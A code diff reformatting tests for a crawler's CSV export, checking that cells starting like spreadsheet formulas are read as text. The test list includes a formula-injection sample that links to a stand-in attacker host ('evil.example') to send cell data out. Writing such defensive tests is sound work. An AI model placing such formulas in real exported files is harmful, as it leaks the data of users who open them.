@@ -241,8 +241,15 @@ def test_the_cli_says_why_a_crawl_without_bodies_has_no_warc(user, tmp_path):
         call_command("crawl", "export", "999", "--output", str(tmp_path / "x"))
 
 
-FORMULAS = ["=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
-            '=HYPERLINK("http://evil.example/?d="&A1,"Click")']  # fmt: skip
+FORMULAS = [
+    "=1+1",
+    "+SUM(A1:A9)",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+]
 
 
 def test_csv_cells_that_start_like_a_formula_are_read_as_text(user, user_client):
@@ -253,9 +260,13 @@ def test_csv_cells_that_start_like_a_formula_are_read_as_text(user, user_client)
     pages = list(crawl.pages.order_by("id"))
     for page, formula in zip(pages, FORMULAS, strict=False):
         Page.objects.filter(pk=page.pk).update(
-            title=formula, error=formula, content_type=formula, referrer=formula,
-            final_url=formula, url=f"{formula}/{page.pk}",
-        )  # fmt: skip
+            title=formula,
+            error=formula,
+            content_type=formula,
+            referrer=formula,
+            final_url=formula,
+            url=f"{formula}/{page.pk}",
+        )
     Page.objects.filter(pk=pages[-1].pk).update(title="a;=1+1", error="x=y", status=None)
     body = b"".join(user_client.get(f"/crawls/{crawl.pk}/export.csv").streaming_content)
     rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
